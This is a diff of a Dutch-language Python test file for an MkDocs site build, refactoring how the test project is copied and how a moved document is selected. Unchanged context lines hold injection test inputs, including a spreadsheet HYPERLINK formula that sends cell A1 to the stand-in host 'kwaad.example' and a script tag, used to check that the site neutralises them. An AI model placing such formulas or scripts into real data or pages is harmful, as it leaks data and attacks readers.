@@ -28,8 +28,8 @@ from macros.kinds import SOORTEN
 from macros.kinds.begrip import Begrip
 from macros.kinds.document import Document
 from tests.conftest import bevindingen
+from tests.project import kopieer
 
-WORTEL = Path(__file__).resolve().parents[2]
 AANVALLEN = {
     "formule": '=HYPERLINK("https://kwaad.example/?"&A1;"klik")',
     "script": "<script>aanval()</script>",
@@ -103,7 +103,7 @@ def aanval(tmp_path_factory):
         wijzig.setattr(macros.site.bouw, "controleer", lambda *_: [])
         wijzig.setenv("SITE_URL", "https://voorbeeld.nl/regiovisie/")
         wijzig.setenv("OPSLAG", "https://github.com/voorbeeld/regiovisie")
-        build(load_config(str(WORTEL / "mkdocs.yml"), site_dir=str(site)))
+        build(load_config(str(kopieer(site.parent / "project") / "mkdocs.yml"), site_dir=str(site)))
     return site, gezien["catalogus"], gezien["slachtoffers"]
 
 
@@ -220,7 +220,7 @@ def test_gegevens_voor_programmas_blijven_letterlijk(aanval):
 def test_een_oud_adres_wijst_de_weg_zonder_script_en_zonder_in_zoekmachines_te_komen(aanval):
     site, catalogus, _ = aanval
     verhuisd = catalogus.vroegere_adressen()
-    visie = next(r for r in catalogus.alle(Document) if r.vroegere_ids)
+    visie = next(r for r in catalogus.alle(Document) if "zo-heette-het" in r.vroegere_ids)
     oud = f"regios/{visie.herkomst.regio}/zo-heette-het/"
     assert verhuisd[oud] == visie.adres
     assert any(v.startswith(oud) and v != oud for v in verhuisd), "ook wat onder het document staat is verhuisd"
